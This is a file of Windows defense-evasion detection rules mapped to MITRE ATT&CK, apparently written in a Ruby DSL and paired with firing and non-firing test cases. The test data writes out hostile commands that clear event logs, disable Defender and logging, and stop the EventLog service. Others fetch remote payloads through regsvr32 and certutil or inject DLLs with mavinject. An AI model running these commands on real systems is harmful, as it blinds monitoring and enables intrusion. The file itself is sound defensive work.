# Defense Evasion (TA0005)

detector 'eventlog-file-moved' do
  title    'wevtutil or the registry changed where an event log is written'
  severity :high
  attack   'T1562.002'
  match (process_is_likely?('wevtutil') &&
         process_start_property_matches_any?(property: deobfuscated_command_line, patterns: [/\b(sl|set-log)\b.*[\/-](lfn|logfilename|e|enabled):/i])) ||
        (registry_set_property_matches_any?(property: registry_path, patterns: [/\\services\\eventlog\\(security|system|application)\\file$/i]) &&
         registry_set_property_does_not_match_any?(property: registry_data, patterns: [/\\winevt\\logs\\(security|system|application)\.evtx$/i]))
  fires_on 'wevtutil', process_start(process_name: 'wevtutil.exe', command_line: 'wevtutil set-log Security /logfilename:"C:\Windows\System32\winevt\Not-Important-Log.evtx"')
  fires_on 'the registry', registry_set(registry_path: 'HKLM\System\CurrentControlSet\Services\EventLog\Security\File', registry_data: 'C:\x.evtx')
  ignores  'a question', process_start(process_name: 'wevtutil.exe', command_line: 'wevtutil get-log Security')
end

detector 'eventlog-cleared' do
  title    'An event log was cleared'
  severity :high
  attack   'T1070.001'
  match log_clear_property_equals_any?(property: log_name, strings: ['security', 'system', 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-Sysmon/Operational']) ||
        (process_is_likely?('wevtutil') && process_start_property_matches_any?(property: deobfuscated_command_line, patterns: [/\s(cl|clear-log)\s/i])) ||
        process_start_property_matches_any?(property: deobfuscated_command_line, patterns: [/\b(clear|remove)-eventlog\b/i])
  fires_on 'the event', log_clear(log_name: 'Security')
  fires_on 'the command', process_start(process_name: 'wevtutil.exe', command_line: 'wevtutil cl System')
  fires_on 'PowerShell', process_start(process_name: 'powershell.exe', command_line: 'powershell Clear-EventLog -LogName Security')
  ignores  'an export', process_start(process_name: 'wevtutil.exe', command_line: 'wevtutil epl System a.evtx')
end

detector 'eventlog-minint-key' do
  title       'The MiniNt key stops the event log at the next boot'
  description <<~TEXT
    When the key exists, Windows takes itself for a PE image and the Security log stays silent.
  TEXT
  severity    :high
  attack      'T1562.002', 'T1112'
  match registry_create_property_ends_with_any?(property: registry_path, strings: ['\control\minint']) ||
        registry_set_property_includes_any?(property: registry_path, strings: ['\control\minint\\']) ||
        process_start_property_includes_any?(property: deobfuscated_command_line, strings: ['\control\minint'])
  fires_on 'the key', registry_create(registry_path: 'HKLM\System\CurrentControlSet\Control\MiniNt')
  fires_on 'the command', process_start(command_line: 'REG ADD HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Control\MiniNt')
  ignores  'another key', registry_create(registry_path: 'HKLM\System\CurrentControlSet\Control\Lsa')
end

detector 'security-service-disabled' do
  title    'The start type of a logging or security service was set to disabled'
  severity :high
  attack   'T1562.001', 'T1562.002'
  match (registry_set_property_matches_any?(property: registry_path, patterns: [/\\services\\(sysmon|sysmon64|sysmondrv|eventlog|windefend|wdfilter|sense|mpssvc|wscsvc)\\start$/i]) &&
         registry_set_property_equals_any?(property: registry_data, strings: ['4']))  ||
        (service_change_property_equals_any?(property: service_name, strings: ['eventlog', 'windefend', 'sense', 'mpssvc', 'Windows Event Log', 'Windows Defender Antivirus Service']) &&
         service_change_property_equals_any?(property: service_start_type, strings: ['disabled']))
  fires_on 'the registry', registry_set(registry_path: 'HKLM\System\CurrentControlSet\Services\EventLog\Start', registry_data: '4')
  ignores  'automatic', registry_set(registry_path: 'HKLM\System\CurrentControlSet\Services\EventLog\Start', registry_data: '2')
end

detector 'eventlog-service-tampered' do
  title    'The event log was hidden behind another service in its host, or its service was stopped'
  severity :high
  attack   'T1562.002'
  match process_start_property_matches_any?(property: deobfuscated_command_line, patterns: [/\b(sc(\.exe)?|net1?(\.exe)?)\s+(\\\\\S+\s+)?(stop|config|delete)\s+"?(eventlog|sysmon(64)?|windefend|sense)\b/i]) ||
        registry_set_property_matches_any?(property: registry_path, patterns: [/\\services\\(netprofm|eventlog)\\(imagepath|type|parameters\\servicedll|start|group|failureactions)$/i])
  fires_on 'sc', process_start(command_line: 'sc.exe stop EventLog')
  fires_on 'the registry', registry_set(registry_path: 'HKLM\System\CurrentControlSet\Services\EventLog\ImagePath')
  ignores  'another service', process_start(command_line: 'sc.exe stop Spooler')
end

detector 'command-line-auditing-off' do
  title    'Command lines are no longer recorded in process creation events'
  severity :high
  attack   'T1562.002'
  match (registry_set_property_ends_with_any?(property: registry_path, strings: ['\policies\system\audit\processcreationincludecmdline_enabled']) &&
         registry_set_property_equals_any?(property: registry_data, strings: ['0'])) ||
        registry_delete_property_ends_with_any?(property: registry_path, strings: ['\policies\system\audit\processcreationincludecmdline_enabled'])
  fires_on 'set to 0', registry_set(registry_path: 'HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\Audit\ProcessCreationIncludeCmdLine_Enabled', registry_data: '0')
  ignores  'set to 1', registry_set(registry_path: 'HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\Audit\ProcessCreationIncludeCmdLine_Enabled', registry_data: '1')
end

detector 'powershell-logging-off' do
  title    'PowerShell logging was switched off by policy'
  severity :high
  attack   'T1562.002'
  match registry_set_property_matches_any?(property: registry_path, patterns: [/\\policies\\microsoft\\windows\\powershell\\(scriptblocklogging|modulelogging|transcription)\\enable/i]) &&
        registry_set_property_equals_any?(property: registry_data, strings: ['0'])
  fires_on 'script blocks', registry_set(registry_path: 'HKLM\SOFTWARE\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging\EnableScriptBlockLogging', registry_data: '0')
  ignores  'on', registry_set(registry_path: 'HKLM\SOFTWARE\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging\EnableScriptBlockLogging', registry_data: '1')
end

detector 'defender-weakened' do
  title    'Microsoft Defender was switched off or given an exclusion'
  severity :high
  attack   'T1562.001'
  match process_start_property_matches_any?(property: deobfuscated_command_line, patterns: [/(set|add)-mppreference\s+.*-(disable\w+[\s:]+(\$?true|1)|exclusion(path|process|extension)|mapsreporting\s+0)/i]) ||
        (registry_set_property_matches_any?(property: registry_path, patterns: [/\\windows defender\\(real-time protection\\)?disable(antispyware|realtimemonitoring|behaviormonitoring|ioavprotection)$/i]) &&
         registry_set_property_equals_any?(property: registry_data, strings: ['1']))
  fires_on 'PowerShell', process_start(command_line: 'powershell Set-MpPreference -DisableRealtimeMonitoring $true')
  fires_on 'PowerShell, with a colon', process_start(command_line: 'powershell Set-MpPreference -DisableIOAVProtection:$true')
  ignores  'a question', process_start(command_line: 'powershell Get-MpPreference')
  ignores  'switched on', process_start(command_line: 'powershell Set-MpPreference -DisableRealtimeMonitoring $false')
end

detector 'process-image-replaced' do
  title    "A process's image was replaced before it ran (herpaderping, hollowing, doppelganging)"
  severity :critical
  description <<~TEXT
    Sysmon compares the image in memory with the file. Where it is not there, only the published tools are found, by
    their names and original names.
  TEXT
  attack   'T1055.012', 'T1055.013'
  match process_tamper_property_matches_any?(property: tamper_type, patterns: [/image is replaced/i]) ||
        process_start_property_includes_any?(property: process_name, strings: ['herpaderping', 'processhollow']) ||
        process_start_property_includes_any?(property: original_file_name, strings: ['herpaderping', 'processhollow'])
  fires_on 'Sysmon says so', process_tamper(tamper_type: 'Image is replaced')
  fires_on 'the published tool', process_start(process_name: 'ProcessHerpaderping.exe')
  fires_on 'the published tool, renamed', process_start(process_name: 'a.exe', original_file_name: 'ProcessHerpaderping.exe')
  ignores  'a locked image', process_tamper(tamper_type: 'Image is locked for access')
end

detector 'image-with-foreign-original-name' do
  title    'Mimikatz or PsExec under another name'
  severity :high
  attack   'T1036.003'
  match (process_start_property_equals_any?(property: original_file_name, strings: ['mimikatz.exe', 'psexec.c', 'psexesvc.exe', 'procdump']) &&
         process_start_property_does_not_start_with_any?(property: process_name, strings: ['mimikatz', 'psexec', 'psexesvc', 'procdump'])) ||
        (process_start_property_equals_any?(property: process_name, strings: ['svchost.exe', 'lsass.exe', 'services.exe', 'csrss.exe', 'winlogon.exe', 'smss.exe', 'wininit.exe']) &&
         process_start_property_matches_any?(property: process_path, patterns: [/^[a-z]:\\/i]) &&
         process_start_property_does_not_match_any?(property: process_path, patterns: [/^[a-z]:\\windows\\(system32|syswow64|winsxs)\\/i]))
  fires_on 'a renamed tool', process_start(process_name: 'wardog.exe', original_file_name: 'mimikatz.exe')
  fires_on 'a false service host', process_start(process_name: 'svchost.exe', process_path: 'C:\Users\Public\svchost.exe')
  ignores  'the true one', process_start(process_name: 'svchost.exe', process_path: 'C:\Windows\System32\svchost.exe')
end

detector 'remote-thread-into-system-process' do
  title    'A program outside Windows created a thread in another process'
  severity :high
  attack   'T1055.002', 'T1055.001'
  match remote_thread_property_exists?(property: target_process_path) &&
        remote_thread_property_does_not_match_any?(property: process_path, patterns: [/^[a-z]:\\windows\\(system32|syswow64)\\(csrss|svchost|wininit|winlogon|services|lsass|dwm|werfault|wbem\\wmiprvse)\.exe$/i, /\\msmpeng\.exe$/i, /^[a-z]:\\program files( \(x86\))?\\(microsoft|windows defender)/i, /vmtoolsd\.exe$/i]) &&
        (remote_thread_property_equals_any?(property: start_function, strings: ['LoadLibraryA', 'LoadLibraryW', 'LdrLoadDll']) ||
         remote_thread_property_does_not_exist?(property: start_module))
  fires_on 'LoadLibrary', remote_thread(process_path: 'C:\a\inject.exe', target_process_path: 'C:\Windows\System32\notepad.exe', start_module: 'C:\Windows\System32\KERNEL32.DLL', start_function: 'LoadLibraryA')
  fires_on 'no module at the start address', remote_thread(process_path: 'C:\a\PurpleSharp.exe', target_process_path: 'C:\Windows\System32\notepad.exe')
  ignores  'the session manager', remote_thread(process_path: 'C:\Windows\System32\csrss.exe', target_process_path: 'C:\Windows\System32\notepad.exe')
end

detector 'control-panel-item-from-user-folder' do
  title    'A control panel item was run from an unusual folder'
  severity :high
  attack   'T1218.002'
  match (process_is_likely?('control') || process_is_likely?('rundll32')) &&
        process_start_property_matches_any?(property: deobfuscated_command_line, patterns: [/(programdata|\\users\\|\\temp\\|\\public\\)[^"]*\.cpl\b/i])
  fires_on 'from ProgramData', process_start(process_name: 'control.exe', command_line: '"control.exe" C:\ProgramData\calc.cpl')
  ignores  'one of Windows', process_start(process_name: 'control.exe', command_line: 'control.exe C:\Windows\System32\timedate.cpl')
end

detector 'rundll32-javascript' do
  title    'rundll32 runs script'
  severity :high
  attack   'T1218.011'
  match process_is_likely?('rundll32') &&
        process_start_property_includes_any?(property: deobfuscated_command_line, strings: ['javascript:', 'vbscript:', 'mshtml,runhtmlapplication', 'url.dll,fileprotocolhandler', 'advpack.dll,launchinfsection', 'pcwutl.dll,launchapplication'])
  fires_on 'JavaScript', process_start(process_name: 'rundll32.exe', command_line: 'rundll32 javascript:"\..\mshtml,RunHTMLApplication "')
  ignores  'shell32', process_start(process_name: 'rundll32.exe', command_line: 'rundll32 shell32.dll,Control_RunDLL')
end

detector 'regsvr32-scriptlet' do
  title    'regsvr32 runs a scriptlet'
  severity :high
  attack   'T1218.010'
  match process_is_likely?('regsvr32') &&
        process_start_property_includes_any?(property: deobfuscated_command_line, strings: ['/i:http', '-i:http', 'scrobj.dll', '.sct'])
  fires_on 'from the network', process_start(process_name: 'regsvr32.exe', command_line: 'regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll')
  ignores  'a library', process_start(process_name: 'regsvr32.exe', command_line: 'regsvr32 /s a.dll')
end

detector 'mavinject' do
  title    'mavinject loads a library into a running process'
  severity :high
  attack   'T1218.013', 'T1055.001'
  match process_is_likely?('mavinject') &&
        process_start_property_includes_any?(property: deobfuscated_command_line, strings: ['/injectrunning', '/hmodule'])
  fires_on 'a library', process_start(process_name: 'mavinject.exe', command_line: 'mavinject.exe 3171 /INJECTRUNNING C:\ProgramData\T1055.dll')
  ignores  'help', process_start(process_name: 'mavinject.exe', command_line: 'mavinject.exe /?')
end

detector 'certutil-decode-or-download' do
  title    'certutil decodes or downloads a file'
  severity :high
  attack   'T1140', 'T1105'
  match process_is_likely?('certutil') &&
        process_start_property_includes_any?(property: deobfuscated_command_line, strings: ['urlcache', 'verifyctl', '-decode', '/decode', '-encode', '/encode', '-ping ', '/ping '])
  fires_on 'a download', process_start(process_name: 'certutil.exe', command_line: 'certutil -urlcache -f http://x/a a.exe')
  ignores  'a list of certificates', process_start(process_name: 'certutil.exe', command_line: 'certutil -v -store -silent root')
end

detector 'msbuild-or-installutil-from-user-folder' do
  title    'A .NET build or install tool works on a file in a user folder'
  severity :medium
  attack   'T1127.001', 'T1218.004'
  match (process_is_likely?('msbuild') || process_is_likely?('installutil') || process_is_likely?('regasm') || process_is_likely?('regsvcs')) &&
        process_start_property_includes_any?(property: command_line, strings: :user_folders)
  fires_on 'InstallUtil', process_start(process_name: 'InstallUtil.exe', command_line: 'InstallUtil.exe /U C:\Users\Public\a.dll')
  ignores  'a project', process_start(process_name: 'MSBuild.exe', command_line: 'MSBuild.exe C:\src\a.sln')
end

detector 'file-time-set-back' do
  title    'A program in a user folder changed the creation time of an executable'
  severity :medium
  attack   'T1070.006'
  match file_modify_property_equals_any?(property: source_event, strings: ['2']) &&
        file_modify_property_equals_any?(property: file_extension, strings: ['exe', 'dll', 'sys', 'ps1', 'aspx']) &&
        file_modify_property_includes_any?(property: process_path, strings: :user_folders)
  fires_on 'an executable', file_modify(source_event: '2', file_path: 'C:\a.exe', process_path: 'C:\Users\a\Downloads\t.exe')
  ignores  'a document', file_modify(source_event: '2', file_path: 'C:\a.docx', process_path: 'C:\Users\a\Downloads\t.exe')
end

detector 'network-capture-by-netsh' do
  title    'netsh captures network traffic'
  severity :medium
  attack   'T1040'
  match process_is_likely?('netsh') &&
        process_start_property_does_not_equal_any?(property: parent_name, strings: ['NetworkWatcherAgent.exe']) &&
        process_start_property_matches_any?(property: deobfuscated_command_line, patterns: [/\btrace\s+start\b.*capture\s*=\s*yes/i])
  fires_on 'a trace', process_start(process_name: 'netsh.exe', command_line: 'netsh trace start capture=yes tracefile=c:\a.etl')
  ignores  'a capture that Azure was asked for', process_start(process_name: 'netsh.exe', parent_name: 'NetworkWatcherAgent.exe', command_line: 'netsh.exe trace start capture=yes traceFile="C:\windows\TEMP\a.etl"')
  ignores  'its end', process_start(process_name: 'netsh.exe', command_line: 'netsh trace stop')
end
